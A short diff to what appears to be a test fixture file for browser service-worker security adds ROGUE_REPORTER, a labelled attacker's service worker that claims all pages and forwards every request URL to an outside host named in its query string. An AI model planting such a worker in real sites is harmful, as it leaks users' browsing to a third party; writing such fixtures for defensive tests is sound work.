@@ -46,6 +46,16 @@ self.addEventListener('fetch', ({ request }) => {
 });
 `;
 
+/** A worker of an attacker's: it tells the server that its query names the URL of each navigation. */
+export const ROGUE_REPORTER = `
+const to = new URL(location.href).searchParams.get('to');
+self.addEventListener('install', () => self.skipWaiting());
+self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
+self.addEventListener('fetch', (event) => {
+  event.respondWith(fetch(to + '/take?' + encodeURIComponent(event.request.url)));
+});
+`;
+
 /** A worker of an attacker's that is refused as a worker, and kept by caches. */
 export const CACHED_ROGUE = '/cached-rogue.js';
 
